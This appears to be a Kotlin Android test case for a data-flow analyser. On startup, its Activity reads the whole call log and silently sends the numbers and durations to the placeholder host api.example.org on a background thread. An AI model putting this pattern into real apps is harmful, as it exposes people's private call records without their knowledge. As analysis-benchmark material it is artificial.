// Kotlin's thread { }: a Function0 that captures the text; sequences and joinToString on the way.
package cases.flow_kotlin_thread

import android.app.Activity
import android.os.Bundle
import android.provider.CallLog
import java.net.HttpURLConnection
import java.net.URL
import kotlin.concurrent.thread

data class Entry(val number: String, val seconds: Int)

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val text = entries().joinToString(";") { "${it.number}=${it.seconds}" }
        thread { send(text.toByteArray()) }
    }

    private fun entries(): List<Entry> {
        val entries = mutableListOf<Entry>()
        val rows = contentResolver.query(CallLog.Calls.CONTENT_URI, null, null, null, null)!!
        while (rows.moveToNext()) entries += Entry(rows.getString(0), rows.getInt(1))
        return entries
    }

    private fun send(body: ByteArray) {
        val connection = URL("https://api.example.org/v1/calls").openConnection() as HttpURLConnection
        connection.doOutput = true
        val out = connection.outputStream
        out.write(body)
        out.close()
    }
}
